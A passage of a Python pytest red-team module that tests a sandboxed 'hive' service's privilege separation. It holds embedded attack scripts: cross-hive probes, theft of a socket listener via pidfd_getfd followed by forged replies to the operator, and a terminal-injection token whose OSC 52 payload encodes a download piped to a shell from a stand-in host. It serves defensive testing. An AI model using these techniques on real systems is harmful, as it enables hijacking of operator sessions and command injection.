"""Red team of session 16's change: each hive's core under ids of its own (STATE/core.id,
claimed from the host's id registry), no supplementary group, host.sock and core.sock
bound by ``hive up`` and handed in (the ``socket_activate`` shim, LISTEN_FDNAMES), the
legacy ``hive-core`` user's files adopted at start.

Two real hives share the module (``d16a``, ``d16b``); the attacks run as a hive's core
ids (``HiveProcess.as_core``: exactly what a compromised core is to the kernel), as the
legacy user, or from a cage. The destructive cases come last (they stop and restart).
Run against main at d51589b (the diff plus its first fixes).

Broke (each case fails on that code):
- a process the compromised core leaves (its own session) outlives `hive up`'s stop and
  start; the next core has the same ids (core.id), so it owns it (pidfd_getfd, /proc),
  and it can put a directory at RUN/host.sock (every later start refuses);
- host.sock's listener outlives the core: a copy the old core passed on keeps taking the
  operator's connections after the core's restart; a listener it shut down stays dead;
- the run dir is still the core's group's (1775) though the core binds nothing there: a
  symlink it leaves at RUN/gateway after ``hive reset`` has root chown, chmod and write
  nginx.conf in any directory;
- the core inherits root's terminal from `hive up` (its controlling terminal and fd 2):
  TIOCSTI (dev.tty.legacy_tiocsti=1 here) types into the root shell; the token it
  writes is printed to that terminal with its control characters;
- adoption runs only when core.id is missing: ``hive core-id`` before the first start (as
  the docs suggest), or a tree too deep that stopped the first walk, leave the shared
  user's hive.db, token, CA key to it for good (the hive can't start);
- a copied state dir's core.id runs a second hive's core under the first one's ids.
- on the diff as first committed (d2ac3a5) also: a tree 1,100 deep the core plants in its
  secrets/ made every later ``hive up`` die with a RecursionError (held on d51589b).

All fixed the same session (the cases assert the fixed behaviour): the core runs in a
session of its own with its stderr relayed escaped (no terminal of the operator's), the
token must be URL-safe base64 and every progress line is shown escaped, every process of
the core's ids is killed before each start of the core and after the hive stops, the
core is not dumpable, host.sock and core.sock are bound afresh before each start, the
run dir is root's alone (0755) and a non-root ``gateway`` there refuses the start, the
adoption runs at every start while a top-level entry is an earlier core's (iterative,
post-order, MAX_DEPTH), and core.id is kept only if the registry gives its ids to this
state dir (else new ids, the old ones' files adopted). The core also refuses to start in
any group but its own (a systemd host's old memberships).

Held: the docs' owners, modes and groups; cross-hive reach (every socket, the run and
state dirs, the core's process, pidfd_getfd); no LISTEN_* or listener in cages or
hive-priv, no abstract or TCP listener of the core; the core can't unlink, rename,
chmod or rebind its handed sockets or touch core.id (protected_hardlinks); ``hive
reset`` keeps the ids and the secrets; the adoption never through a link or a second
link; links at state/priv and state/agents after a reset are refused; cage ids never a
core's.
"""

from __future__ import annotations

import json
import os
import re
import signal
import stat
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hive_fixture import (
    HIVE,
    HiveProcess,
    _finish,
    children,
    ensure_user,
    proc_cmdline,
    proc_status,
    wait_until,
)
from hyperhive.client import HiveUnavailable

from .conftest import cage_run

PY = str(HIVE.parent / "python")
LEGACY = "hive-core"


def _agents(name: str) -> dict[str, dict[str, Any]]:
    return {name: {"runtime": "command", "command": ["sleep", "3600"]}}


@pytest.fixture(scope="module", autouse=True)
def _legacy_account() -> None:
    """The legacy ``hive-core`` account these cases adopt from: a fresh host has none until
    a test makes it (on session 21's fresh machine this module ran before any of those,
    and its 5 cases that read the account failed with KeyError)."""
    ensure_user(LEGACY)


@pytest.fixture(scope="module")
def pair() -> Iterator[tuple[HiveProcess, HiveProcess]]:
    """Two hives on this host, started side by side (half the wait)."""
    hives = [HiveProcess(_agents("d16a")), HiveProcess(_agents("d16b"))]
    errors: list[BaseException] = []

    def start(h: HiveProcess) -> None:
        try:
            h.start()
        except BaseException as e:  # reported below
            errors.append(e)

    threads = [threading.Thread(target=start, args=(h,)) for h in hives]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    if errors:
        _finish(hives)
        for h in hives:
            h.cleanup()
        raise errors[0]
    try:
        yield hives[0], hives[1]
    finally:
        try:
            _finish(hives)
        finally:
            for h in hives:
                h.cleanup()


def as_ids(ids: tuple[int, int], script: str, *args: str, timeout: float = 60) -> dict[str, Any]:
    """``script`` run as these ids with no supplementary group (a hive's core, as `hive up`
    starts it); what it printed as JSON on its last line."""
    proc = subprocess.run(
        [PY, "-I", "-c", script, *args], capture_output=True, text=True, timeout=timeout,
        user=ids[0], group=ids[1], extra_groups=[], cwd="/",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr
    out: dict[str, Any] = json.loads(proc.stdout.strip().splitlines()[-1])
    return out


def unix_listeners() -> dict[str, int]:
    """Bound path of each listening unix socket on the host -> its inode (/proc/net/unix)."""
    out = {}
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        f = line.split()
        if (
            len(f) >= 8 and f[5] == "01" and int(f[3], 16) & 0x10000
        ):  # SS_UNCONNECTED, __SO_ACCEPTCON
            out[f[7]] = int(f[6])
    return out


def _tcp_listeners() -> set[int]:
    """Inodes of the host's listening TCP sockets (this network namespace)."""
    out = set()
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(name).read_text().splitlines()[1:]:
            f = line.split()
            if f[3] == "0A":
                out.add(int(f[9]))
    return out


def socket_inodes(pid: int) -> list[int]:
    """The socket inodes among ``pid``'s descriptors."""
    out = []
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            m = re.fullmatch(r"socket:\[(\d+)\]", target)
            if m:
                out.append(int(m.group(1)))
    except OSError:
        pass
    return out


def environ(pid: int) -> list[str]:
    try:
        return [
            e.decode(errors="replace")
            for e in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
            if e
        ]
    except OSError:
        return []


def ids_of(pid: int) -> tuple[int, int, list[int]]:
    st = proc_status(pid)
    return (
        int(st["Uid"].split()[0]),
        int(st["Gid"].split()[0]),
        [int(g) for g in st.get("Groups", "").split()],
    )


# -- what the docs say about the change ---------------------------------------------------------


@pytest.mark.attack(
    "privsep.core-misuse", ref="session 16: docs/security.md 'Sockets and directories'"
)
def test_the_sockets_directories_and_core_ids_are_as_documented(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """Each claim of the docs about the change, read from the live hives."""
    import grp

    admin = grp.getgrnam("hive-admin").gr_gid
    wrong = []
    for h in pair:
        uid, gid = h.core_ids
        gateway = gid + 1  # this hive's own gateway group (session 17), not hive-gateway
        pid = h.core_pid()
        assert pid is not None
        if ids_of(pid) != (uid, gid, []):
            wrong.append(f"core process ids {ids_of(pid)} != ({uid}, {gid}, [])")

        def check(p: Path, want: tuple[int, int, int], kind: int) -> None:
            st = p.lstat()
            got = (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode))
            if got != want or stat.S_IFMT(st.st_mode) != kind:
                wrong.append(
                    f"{p}: {got[0]}:{got[1]} {got[2]:o} (want {want[0]}:{want[1]} {want[2]:o})"
                )

        check(h.run_dir / "host.sock", (0, admin, 0o660), stat.S_IFSOCK)
        check(h.run_dir / "core.sock", (0, gateway, 0o660), stat.S_IFSOCK)
        check(h.run_dir / "priv.sock", (0, gid, 0o660), stat.S_IFSOCK)
        check(h.run_dir, (0, 0, 0o755), stat.S_IFDIR)  # root's alone since this red team
        check(h.state_dir, (0, gid, 0o1770), stat.S_IFDIR)
        check(h.state_dir / "core.id", (0, 0, 0o644), stat.S_IFREG)
        if (h.state_dir / "core.id").stat().st_nlink != 1:
            wrong.append("core.id has more than one link")
        env = [e for e in environ(pid) if e.startswith("LISTEN_FDNAMES=")]
        if env != ["LISTEN_FDNAMES=host.sock:core.sock"]:
            wrong.append(f"core's LISTEN_FDNAMES: {env}")
    assert pair[0].core_ids != pair[1].core_ids
    assert not wrong, wrong


@pytest.mark.attack("ids.host-unique", ref="session 16: core ids from the agents' registry")
def test_no_agent_id_is_a_core_id_and_no_core_id_is_an_account(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """A cage's uid or gid equal to a core's (this hive's or another's) would be that core
    to hive-priv (SO_PEERCRED's uid or gid) and own its files."""
    import pwd

    core = {i for h in pair for i in h.core_ids}
    agents = set()
    for h in pair:
        for n in h.names:
            row = h.cage(n)
            agents |= {row["uid"], row["gid"], row["harness_uid"]}
    assert not core & agents, (core, agents)
    for i in core:
        with pytest.raises(KeyError):
            pwd.getpwuid(i)


@pytest.mark.attack(
    "privsep.core-misuse", ref="session 16: systemd's User= takes its groups from /etc/group"
)
def test_the_systemd_core_account_is_in_no_group_of_the_hives(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """The docs: the systemd-run core is "user hive-core, no supplementary group". systemd
    gives ``User=`` the groups the group database lists it in (``initgroups``), and the
    sysusers.d file of the older version added ``m hive-core hive-admin`` and ``m
    hive-core hive-gateway``, which the new one does not take back (systemd-sysusers
    never removes a membership). With either left, the systemd hive's core is the
    operator of every `hive up` hive on the host (round 22 again). Checked on this host's
    group database, with ``hive up`` having run here (it leaves the account alone)."""
    import grp
    import pwd

    legacy = pwd.getpwnam(LEGACY)
    groups = set(os.getgrouplist(LEGACY, legacy.pw_gid)) - {legacy.pw_gid}
    # hive-gateway exists only where the systemd units' sysusers.d ran (or an older hive up)
    hives = {g.gr_gid: g.gr_name for g in grp.getgrall() if g.gr_name in ("hive-admin", "hive-gateway")}
    assert not groups & set(hives), f"{LEGACY} is in {[hives[g] for g in groups & set(hives)]}"
    conf = (Path(__file__).resolve().parents[2] / "deploy" / "sysusers.d" / "hive.conf").read_text()
    assert not re.search(r"^m\s+hive-core\s", conf, re.M), conf


# -- hive A's core against hive B ------------------------------------------------------------------

CROSS = r"""
import ctypes, errno, json, os, signal, socket, sys
run, state, core_pid, cage_pid, agent = sys.argv[1:6]
out = {}
def conn(path):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    try:
        s.connect(path)
        return "connected"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
    finally:
        s.close()
for p in (f"agents/{agent}/agent.sock", f"agents/{agent}/egress.sock", f"ui/{agent}/web.sock",
          "host.sock", "core.sock", "priv.sock"):
    out[p] = conn(os.path.join(run, p))
def tryit(what, f):
    try:
        f()
        out[what] = "done"
    except OSError as e:
        out[what] = errno.errorcode.get(e.errno, str(e))
tryit("create in run dir", lambda: open(os.path.join(run, "d16-planted"), "x").close())
tryit("list state dir", lambda: os.listdir(state))
tryit("signal core", lambda: os.kill(int(core_pid), 0))
tryit("signal cage", lambda: os.kill(int(cage_pid), 0))
tryit("core environ", lambda: open(f"/proc/{core_pid}/environ", "rb").read())
tryit("core fds", lambda: os.listdir(f"/proc/{core_pid}/fd"))
def getfd():
    pfd = os.pidfd_open(int(core_pid))
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(438, pfd, 3, 0)  # pidfd_getfd: the core's fd 3, its host.sock listener
    if fd < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
tryit("pidfd_getfd core", getfd)
print(json.dumps(out))
"""


@pytest.mark.attack(
    "privsep.core-misuse", ref="session 16: round 22's cross-hive case, the surfaces it did not try"
)
def test_one_hives_core_reaches_nothing_of_the_other_hive(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """As A's core ids: B's agent and egress sockets, the agent's page socket, B's three
    run-dir sockets, an entry in B's run dir, B's state dir, B's core and cage processes
    (signal, /proc, its descriptors) are all refused by the kernel."""
    a, b = pair
    name = b.names[0]
    before = sorted(os.listdir(b.run_dir))
    cage_pid = b.harness_pid(name)
    out = as_ids(
        a.core_ids, CROSS, str(b.run_dir), str(b.state_dir), str(b.core_pid()), str(cage_pid), name
    )
    print(out)
    assert sorted(os.listdir(b.run_dir)) == before
    reached = {k: v for k, v in out.items() if v in ("connected", "done")}
    assert not reached, f"A's core reached in B: {reached} ({out})"


@pytest.mark.attack("ids.reuse", ref="session 16: core.id is trusted without the registry's owner")
def test_a_copied_state_dir_does_not_run_a_second_hive_under_the_same_core_ids(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """A state dir copied to make a second hive (``cp -a``, a restored backup beside the
    original) brings core.id along: root's, 0644, one link, so ``hive up`` takes it and
    runs the second hive's core under the first one's ids. Each then owns the other
    (state dir, priv.sock's group, the core's process): round 22 between the two. The
    registry knows whose block it is (``STATE#core``); a core.id naming a block of
    another state dir must not be used as is."""
    b = pair[1]
    c = HiveProcess(_agents("d16c"))
    try:
        c.state_dir.mkdir()
        os.chmod(c.state_dir, 0o755)
        data = (b.state_dir / "core.id").read_bytes()
        (c.state_dir / "core.id").write_bytes(data)
        os.chmod(c.state_dir / "core.id", 0o644)
        try:
            c.start()
            ids = ids_of(c.core_pid() or 0)[:2]
        except AssertionError:
            ids = None  # refused: also safe
    finally:
        _finish([c])
        c.cleanup()
    assert ids != b.core_ids, f"a second hive's core runs under the first one's ids {b.core_ids}"


# -- from a cage ------------------------------------------------------------------------------


@pytest.mark.attack("reach.other-surfaces", ref="session 16: LISTEN_* and the handed listeners")
def test_no_handed_listener_or_listen_variable_reaches_a_cage_or_hive_priv(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """host.sock's and core.sock's listeners are held by `hive up` and the core only (one
    descriptor each in the core: no second copy for a child to inherit); hive-priv and
    every process in a cage hold neither, nor priv.sock's listener (the core must not
    hold root's), and none has a LISTEN_* variable (systemd's protocol: a child taking
    them would serve or close the operator's socket)."""
    wrong = []
    listeners = unix_listeners()
    for h in pair:
        host, web, priv = (
            listeners[str(h.run_dir / n)] for n in ("host.sock", "core.sock", "priv.sock")
        )
        core_pid, priv_pid = h.core_pid(), h.priv_pid()
        assert core_pid and priv_pid
        core_socks = socket_inodes(core_pid)
        if core_socks.count(host) != 1 or core_socks.count(web) != 1:
            wrong.append(
                f"core holds host.sock x{core_socks.count(host)}, core.sock x{core_socks.count(web)}"
            )
        if priv in core_socks:
            wrong.append("the core holds priv.sock's listener")
        # Every listener of the core is a path under its own run dir: no abstract name and
        # no TCP port another hive's core could reach.
        by_inode = {ino: path for path, ino in listeners.items()}
        for ino in core_socks:
            path = by_inode.get(ino)
            if path is not None and not path.startswith(f"{h.run_dir}/"):
                wrong.append(f"the core listens on {path!r}")
        tcp = _tcp_listeners()
        if tcp & set(core_socks):
            wrong.append(f"the core listens on TCP ({tcp & set(core_socks)})")
        for pid in {priv_pid, *[p for n in h.names for p in h.cage_procs(n)]}:
            held = {host, web} & set(socket_inodes(pid))
            if held:
                wrong.append(f"pid {pid} {proc_cmdline(pid)[:3]} holds {held}")
            leaked = [e for e in environ(pid) if e.startswith("LISTEN_")]
            if leaked and pid != priv_pid:
                wrong.append(f"pid {pid} {proc_cmdline(pid)[:3]} has {leaked}")
    assert not wrong, wrong


CAGE_PROBE = r"""
import errno, os, socket
fds = sorted(int(f) for f in os.listdir("/proc/self/fd"))
def link(f):
    try:
        return os.readlink(f"/proc/self/fd/{f}")
    except OSError:
        return ""
socks = [f for f in fds if f > 2 and link(f).startswith("socket:")]  # 0-2: the exec's stdio
def conn(path):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        return "connected"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
    finally:
        s.close()
reach = {p: conn(p) for p in P["paths"]}
result(listen=sorted(k for k in os.environ if k.startswith("LISTEN_")), socks=socks, reach=reach,
       groups=sorted(os.getgroups()), uid=os.getuid(), gid=os.getgid())
"""


@pytest.mark.attack("reach.other-surfaces", ref="session 16: host.sock and core.sock from a cage")
def test_a_cage_reaches_neither_handed_socket_nor_gets_a_core_id(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """From inside a cage: no LISTEN_* variable, no inherited socket, neither hive's
    host.sock, core.sock or priv.sock reachable by any path, and neither hive's core
    ids among the caller's uid, gid or groups."""
    b = pair[1]
    paths = [str(h.run_dir / n) for h in pair for n in ("host.sock", "core.sock", "priv.sock")]
    paths += ["/run/hive/host.sock", "/run/hive/core.sock", "/run/hive/priv.sock"]
    out = cage_run(b, b.names[0], CAGE_PROBE, paths=paths)
    print(out)
    assert out["listen"] == [] and out["socks"] == [], out
    assert all(v != "connected" for v in out["reach"].values()), out
    cores = {i for h in pair for i in h.core_ids}
    assert not cores & {out["uid"], out["gid"], *out["groups"]}, (cores, out)


# -- the core against its own hive's sockets and core.id --------------------------------------------

OWN = r"""
import errno, json, os, socket, sys
run, state = sys.argv[1:3]
out = {}
def tryit(what, f):
    try:
        f()
        out[what] = "done"
    except OSError as e:
        out[what] = errno.errorcode.get(e.errno, str(e))
decoy = os.path.join(run, "d16-decoy")
tryit("create in the run dir", lambda: open(decoy, "w").close())
for n in ("host.sock", "core.sock", "priv.sock"):
    p = os.path.join(run, n)
    tryit(f"unlink {n}", lambda: os.unlink(p))
    tryit(f"rename over {n}", lambda: os.rename(decoy, p))
    tryit(f"rename {n} away", lambda: os.rename(p, p + ".x"))
    tryit(f"chmod {n}", lambda: os.chmod(p, 0o666))
    def rebind():
        s = socket.socket(socket.AF_UNIX)
        try:
            s.bind(p)
        finally:
            s.close()
    tryit(f"bind {n}", rebind)
tryit("unlink the decoy", lambda: os.unlink(decoy))
cid = os.path.join(state, "core.id")
tryit("hardlink core.id", lambda: os.link(cid, os.path.join(state, "d16-link")))
tryit("unlink core.id", lambda: os.unlink(cid))
tryit("write core.id", lambda: open(cid, "w").close())
tryit("rename over core.id", lambda: (open(os.path.join(state, "d16-x"), "w").close(),
                                      os.rename(os.path.join(state, "d16-x"), cid)))
try:
    os.unlink(os.path.join(state, "d16-x"))
except OSError:
    pass
print(json.dumps(out))
"""


@pytest.mark.attack(
    "privsep.core-symlink-swap", ref="session 16: root's sockets and core.id in the core's dirs"
)
def test_the_core_can_not_unlink_rebind_or_replace_its_handed_sockets_or_core_id(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """The run and state directories are the core's group's, sticky: as the core's ids,
    host.sock, core.sock, priv.sock and core.id can be neither removed, renamed, replaced,
    chmodded, bound again nor (core.id) hard-linked (protected_hardlinks: a second link
    would stop every start)."""
    h = pair[0]
    before = {n: os.lstat(h.run_dir / n).st_ino for n in ("host.sock", "core.sock", "priv.sock")}
    out = as_ids(h.core_ids, OWN, str(h.run_dir), str(h.state_dir))
    print(out)
    done = {k: v for k, v in out.items() if v == "done"}
    assert not done, done
    assert {n: os.lstat(h.run_dir / n).st_ino for n in before} == before
    assert h.host_call("agent_status")["ok"]


# -- a restart of the core, and what a core that was compromised keeps ----------------------------

# Run as root: takes the core's host.sock listener (pidfd_getfd: what the core itself could
# hand a process of its own by SCM_RIGHTS; since this red team the core is not dumpable, so
# a process of its ids can no longer take it this way), then becomes the core's ids.
STEAL = r"""
import ctypes, json, os, socket, sys, time
core_pid, host_inode, uid, gid = (int(a) for a in sys.argv[1:5])
libc = ctypes.CDLL(None, use_errno=True)
pfd = os.pidfd_open(core_pid)
got = None
for fd in os.listdir(f"/proc/{core_pid}/fd"):
    if os.readlink(f"/proc/{core_pid}/fd/{fd}") == f"socket:[{host_inode}]":
        got = libc.syscall(438, pfd, int(fd), 0)  # pidfd_getfd
        break
if got is None or got < 0:
    print(json.dumps({"stolen": False, "errno": ctypes.get_errno()}), flush=True)
    sys.exit(0)
s = socket.socket(fileno=got)
os.setgroups([])
os.setresgid(gid, gid, gid)
os.setresuid(uid, uid, uid)
print(json.dumps({"stolen": True}), flush=True)
# Wait for the restarted core, then take the operator's connections from it.
sys.stdin.readline()
s.settimeout(20)
taken = 0
deadline = time.monotonic() + 20
while time.monotonic() < deadline and taken < 1:
    try:
        c, _ = s.accept()
    except OSError:
        break
    c.settimeout(5)
    c.makefile("rb").readline()  # the operator's request
    c.sendall(b'{"version": 1, "ok": true, "agent_statuses": [], "forged": true}\n')
    c.close()
    taken += 1
print(json.dumps({"taken": taken}), flush=True)
"""


def _kill_core_and_wait(h: HiveProcess) -> int:
    old = h.core_pid()
    assert old is not None
    os.kill(old, signal.SIGKILL)
    new = wait_until(lambda: (p := h.core_pid()) and p != old and p, 30, "the core to be restarted")
    wait_until(lambda: h.host_call("agent_status").get("ok"), 30, "host.sock to answer again")
    return int(new)


@pytest.mark.attack("privsep.core-misuse", ref="session 16: the handed listeners outlive the core")
def test_a_core_restart_leaves_no_listener_with_what_the_compromised_core_left_behind(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """host.sock is bound once by `hive up` and handed to every core it starts. A
    compromised core hands a copy of it to a process of its own (here: a process with the
    core's ids takes it with pidfd_getfd, as the core itself could pass it by SCM_RIGHTS)
    and is then restarted (killed: `hive up` starts it again). The restarted core must be
    the only one serving the operator: a copy held by what the old core left would keep
    answering the operator's `hive` commands with whatever it likes."""
    h = pair[0]
    host_inode = unix_listeners()[str(h.run_dir / "host.sock")]
    uid, gid = h.core_ids
    thief = subprocess.Popen(
        [PY, "-I", "-c", STEAL, str(h.core_pid()), str(host_inode), str(uid), str(gid)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd="/", start_new_session=True,
    )  # fmt: skip
    try:
        assert thief.stdout is not None and thief.stdin is not None
        first = json.loads(thief.stdout.readline())
        assert first == {"stolen": True}, first
        _kill_core_and_wait(h)
        try:
            thief.stdin.write("go\n")
            thief.stdin.flush()
        except BrokenPipeError:
            pass  # fixed: hive up killed every process of the core's ids before its restart
        forged = 0
        for _ in range(20):
            reply = h.host_call("agent_status")
            forged += bool(reply.get("forged"))
            if forged:
                break
        last = thief.stdout.readline()
        print("thief:", last)
        ended = thief.poll()
    finally:
        thief.kill()
        thief.wait()
    assert ended == -signal.SIGKILL, f"the process left with the core's ids was not killed: {ended}"
    assert forged == 0, (
        "a process the compromised core left answered the operator on host.sock after the restart"
    )


@pytest.mark.attack("privsep.core-misuse", ref="session 16: the handed listeners outlive the core")
def test_a_listener_shut_by_a_compromised_core_serves_again_after_its_restart(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """The compromised core shuts its handed host.sock listener down (shutdown(2) on the
    open file `hive up` shares with it) and dies. The operator's remedy, the core started
    again, must give a serving host.sock: before, each core bound a fresh one."""
    h = pair[0]
    host_inode = unix_listeners()[str(h.run_dir / "host.sock")]
    script = STEAL.split("s = socket.socket(fileno=got)")[0] + (
        "s = socket.socket(fileno=got)\ns.shutdown(socket.SHUT_RDWR)\nprint(json.dumps({'shut': True}))\n"
    )
    # As root (what the core does to its own listener, done from outside it).
    proc = subprocess.run([PY, "-I", "-c", script, str(h.core_pid()), str(host_inode), "0", "0"],
                          capture_output=True, text=True, timeout=60, cwd="/")  # fmt: skip
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    assert out == {"shut": True}, (out, proc.stderr)
    old = h.core_pid()
    assert old is not None
    os.kill(old, signal.SIGKILL)
    wait_until(lambda: (p := h.core_pid()) and p != old, 30, "the core to be restarted")
    try:
        wait_until(lambda: _answers(h), 8, "host.sock to answer after the core's restart")
        served = True
    except AssertionError:
        served = False
    assert served, (
        "host.sock stays dead after the core's restart (the shut listener was handed in again)"
    )


def _answers(h: HiveProcess) -> bool:
    try:
        return bool(h.host_call("agent_status").get("ok"))
    except (OSError, HiveUnavailable, ValueError):
        return False


# -- across `hive up`'s stop and start, `hive reset`; the legacy user's files ---------------------


def _reset(h: HiveProcess) -> None:
    proc = subprocess.run(
        [str(HIVE), "reset", "--state-dir", str(h.state_dir), "--run-dir", str(h.run_dir), "--yes"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr


def _as_before_the_upgrade(h: HiveProcess) -> tuple[int, int]:
    """The stopped hive's state dir as an older version left it: what the core owns is
    the shared ``hive-core`` user's, the directory is ``root:hive-core``, no core.id."""
    import pwd

    legacy = pwd.getpwnam(LEGACY)
    uid, gid = h.core_ids
    for dirpath, dirnames, filenames in os.walk(h.state_dir):
        if Path(dirpath) == h.state_dir:
            dirnames[:] = [d for d in dirnames if d not in ("priv", "agents")]
            filenames = [f for f in filenames if f != "core.id"]
        for n in dirnames + filenames:
            p = os.path.join(dirpath, n)
            st = os.lstat(p)
            os.lchown(
                p,
                legacy.pw_uid if st.st_uid == uid else -1,
                legacy.pw_gid if st.st_gid == gid else -1,
            )
    os.chown(h.state_dir, 0, legacy.pw_gid)
    (h.state_dir / "core.id").unlink()
    return legacy.pw_uid, legacy.pw_gid


@pytest.mark.attack("reset.planted-link", ref="session 16: hive reset keeps core.id")
def test_hive_reset_then_up_keeps_the_cores_ids_and_its_secrets(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """``hive reset`` keeps ``secrets/`` (the core's): the next core must have the same
    ids or the operator's credentials are unreadable to it (and readable to whoever gets
    the old ids: never, they are not reused)."""
    h = pair[0]
    uid, gid = h.core_ids
    h.stop_clean()
    kept = h.state_dir / "secrets" / "d16-kept"
    kept.write_text("the operator's credential\n")
    os.chown(kept, uid, gid)
    os.chmod(kept, 0o600)
    _reset(h)
    assert (h.state_dir / "core.id").is_file()
    h.start()
    assert h.core_ids == (uid, gid)
    assert ids_of(h.core_pid() or 0)[:2] == (uid, gid)
    out = as_ids(
        (uid, gid), "import json,sys; print(json.dumps(open(sys.argv[1]).read()))", str(kept)
    )
    assert out == "the operator's credential\n"  # type: ignore[comparison-overlap]


@pytest.mark.attack("reset.planted-link", ref="session 16: adopt_legacy_files")
def test_the_legacy_users_links_and_fifos_give_root_nothing_to_chown(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """What the shared ``hive-core`` user of an older version left in the state dir (it
    wrote there): a hard link and a symlink to another hive's file of its own, a FIFO,
    a directory of its own. At the first start under core ids root's adoption walk gives
    the core its own files (the control) but neither link's target (another hive's file
    stays the shared user's), and the FIFO does not hang the start."""
    h = pair[0]
    h.stop_clean()
    luid, lgid = _as_before_the_upgrade(h)
    other = h.base / "other-hive-secret"  # another hive's file, the shared user's
    other.write_text("another hive's key\n")
    os.chown(other, luid, lgid)
    os.chmod(other, 0o600)
    os.link(other, h.state_dir / "d16-hard")
    os.link(other, h.state_dir / "secrets" / "d16-hard")
    os.symlink(other, h.state_dir / "d16-sym")
    os.lchown(h.state_dir / "d16-sym", luid, lgid)
    os.mkfifo(h.state_dir / "d16-fifo")
    os.chown(h.state_dir / "d16-fifo", luid, lgid)
    (h.state_dir / "d16-dir").mkdir()
    (h.state_dir / "d16-dir" / "f").write_text("x")
    for p in (h.state_dir / "d16-dir", h.state_dir / "d16-dir" / "f"):
        os.chown(p, luid, lgid)
    h.start()
    uid, gid = h.core_ids
    assert ids_of(h.core_pid() or 0)[:2] == (uid, gid) and uid != luid
    st = other.stat()
    assert (st.st_uid, st.st_gid) == (luid, lgid), "root gave another hive's file to this core"
    assert (h.state_dir / "d16-dir" / "f").stat().st_uid == uid  # the control: adopted
    assert (h.state_dir / "hive.db").stat().st_uid == uid


@pytest.mark.attack(
    "surface.terminal-injection", ref="session 16: read_token, the core's file printed by root"
)
def test_the_token_the_core_wrote_reaches_roots_terminal_as_text_only(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """``operator.token`` is the core's file; ``hive up`` (root, on the operator's
    terminal) reads it back and prints the login URL with it. A compromised core writes a
    token with terminal controls (OSC 52: set the clipboard to a command; a title; a
    clear screen); the core started next keeps a non-empty token as it is. What ``hive
    up`` prints must carry no control character."""
    h = pair[1]
    evil = "tok\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\x1b[2J\x1b]0;pwned\x07en"
    as_ids(h.core_ids, "import json,sys; open(sys.argv[1],'w').write(sys.argv[2] + '\\n'); print(json.dumps(1))",
           str(h.state_dir / "operator.token"), evil)  # fmt: skip
    h.stop_clean()
    seen, logged = len(h.stdout_lines), len(h.log_path.read_bytes())
    # Fixed: hive up refuses a token that is not one (URL-safe base64) in one line.
    with pytest.raises(AssertionError):
        h.start()
    if h.proc is not None and h.proc.poll() is None:
        h.kill_everything()
    printed = h.stdout_lines[seen:]
    tail = h.log_path.read_bytes()[logged:].decode(errors="replace").splitlines()
    refusal = [line for line in tail if "does not hold a token" in line]
    (h.state_dir / "operator.token").unlink()  # the next core makes a new one
    h.start()
    assert not [line for line in printed if line.startswith("hive: ready")], printed
    assert len(refusal) == 1, tail
    bad = [line for line in printed + tail if any(ord(ch) < 0x20 or ord(ch) == 0x7F for ch in line)]
    assert not bad, f"hive up printed the core's terminal controls: {bad!r}"


def _terminal_of(pid: int) -> tuple[int, list[tuple[int, str]]]:
    """``pid``'s controlling terminal (tty_nr, 0: none) and its descriptors of a terminal."""
    tty_nr = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[4])
    ttys = []
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if target.startswith(("/dev/pts/", "/dev/tty", "/dev/console")):
            ttys.append((int(fd), target))
    return tty_nr, ttys


def _hive_up_on_a_terminal(h: HiveProcess) -> tuple[subprocess.Popen[bytes], list[bytes], int]:
    """``hive up`` for ``h`` started as the operator starts it: from a shell on a terminal
    (a pty that is its controlling terminal, on stdin, stdout and stderr)."""
    import fcntl
    import pty
    import termios

    master, slave = pty.openpty()
    cmd = [str(HIVE), "--run-dir", str(h.run_dir), "up", "--config", str(h.config_path),
           "--state-dir", str(h.state_dir), "--listen", f"127.0.0.1:{h.port}"]  # fmt: skip
    proc = subprocess.Popen(
        cmd, stdin=slave, stdout=slave, stderr=slave, cwd=h.base, start_new_session=True,
        preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0),
    )  # fmt: skip
    os.close(slave)
    out: list[bytes] = []

    def pump() -> None:
        while True:
            try:
                chunk = os.read(master, 4096)
            except OSError:
                return
            if not chunk:
                return
            out.append(chunk)

    threading.Thread(target=pump, daemon=True).start()
    return proc, out, master


@pytest.mark.attack(
    "exec.operator-terminal", ref="session 16: the core is started from root's terminal"
)
